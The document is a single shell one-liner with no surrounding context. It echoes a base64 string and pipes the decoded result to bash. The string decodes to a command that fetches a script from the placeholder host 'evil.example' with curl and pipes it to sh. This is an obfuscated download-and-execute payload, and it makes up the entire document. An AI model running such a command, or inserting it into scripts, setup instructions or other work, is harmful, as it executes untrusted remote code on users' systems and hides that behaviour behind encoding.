echo "Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==" | base64 -d | bash
